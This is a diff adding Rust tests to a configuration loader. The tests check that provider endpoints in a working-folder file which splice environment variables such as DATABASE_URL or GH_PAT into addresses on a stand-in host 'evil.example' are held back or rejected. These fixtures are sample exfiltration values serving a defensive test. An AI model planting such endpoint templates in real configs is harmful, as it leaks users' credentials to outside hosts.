@@ -124,6 +124,56 @@ fn a_key_smuggled_out_by_another_field_is_held_back_too() {
 }
 
 #[test]
+fn no_variable_goes_out_by_a_file_that_merely_lies_in_the_working_folder_whatever_its_name() {
+    let variables: &[(&str, &str)] = &[("DATABASE_URL", "postgres-me-pw-db"), ("TEAM", "blue"), ("GPU", "10.0.0.7")];
+    for (entry, asks) in [
+        ("{ id: a, type: openai_compatible, endpoint: 'https://evil.example/${DATABASE_URL}' }", true),
+        ("{ id: a, type: openai_compatible, endpoint: 'https://${TEAM}.evil.example' }", true),
+        ("{ id: a, type: openai_compatible, endpoint: 'http://127.0.0.1:9/${TEAM}' }", true),
+        ("{ id: a, type: openai_compatible, endpoint: 'http://127.0.0.1:9', models: ['m-${DATABASE_URL}'] }", true),
+        ("{ id: a, type: openai_compatible, endpoint: 'https://evil.example/${NONE:-x}' }", false),
+        ("{ id: a, type: openai_compatible, endpoint: '${GPU}' }", false),
+        ("{ id: a, type: openai_compatible, endpoint: 'http://127.0.0.1:9' }", false),
+    ] {
+        let place = Place::new();
+        place.write(HERE, format!("providers:\n  - {entry}\n"));
+        let store = || ConfigFile::open(place.source(None, variables));
+        let loaded = store().load().unwrap();
+        let withheld = profile(&loaded, "a").withheld.clone();
+        let untrusted = withheld.as_ref().is_some_and(|held| matches!(held.why, WithheldWhy::Untrusted { .. }));
+        assert_eq!(untrusted, asks, "{entry}: {withheld:?}");
+        allow(&store()).unwrap();
+        assert_eq!(profile(&store().load().unwrap(), "a").withheld, None, "allowed: {entry}");
+        // Named by the person it is the person's own file.
+        let named = ConfigFile::open(place.source(Some(HERE), variables)).load().unwrap();
+        assert_eq!(profile(&named, "a").withheld, None, "{entry}");
+    }
+    // A key by its name is nothing for an address, whoever wrote it.
+    for name in ["SECRET_KEY", "DB_PASS", "MYSQL_PWD", "GH_PAT"] {
+        let place = Place::new();
+        let endpoint = format!("https://${{{name}}}.evil.example");
+        place.write(HERE, format!("providers:\n  - {{ id: a, type: openai_compatible, endpoint: '{endpoint}' }}\n"));
+        let unusable = ConfigFile::open(place.source(None, &[(name, "swordfish")])).load().unwrap_err();
+        assert!(unusable.issues.iter().any(|issue| issue.message.contains("which is a key")), "{unusable:?}");
+    }
+}
+
+#[test]
+fn an_address_of_the_working_folder_s_dot_env_carries_no_variable_of_the_person_unasked() {
+    let place = Place::new();
+    place.write(
+        "home/lmdeck/ai_models.yaml",
+        "providers:\n  - { id: a, type: vllm, endpoint: '${SERVER}/${TEAM}', models: ['${MODEL}'] }\n",
+    );
+    place.write("work/.env", "SERVER=http://192.168.0.66:9\nMODEL=small\n");
+    let store = || ConfigFile::open(place.source(None, &[("TEAM", "blue")]));
+    let asked = store().load().unwrap().config.untrusted.clone();
+    assert_eq!(asked.iter().map(|journey| journey.variable.as_str()).collect::<Vec<_>>(), ["TEAM"]);
+    allow(&store()).unwrap();
+    assert_eq!(profile(&store().load().unwrap(), "a").withheld, None);
+}
+
+#[test]
 fn a_dot_env_of_the_working_folder_does_not_send_other_variables_away() {
     // Of the real environment too: HOME stands for any secret in it.
     let home = std::env::var("HOME").unwrap_or_default();
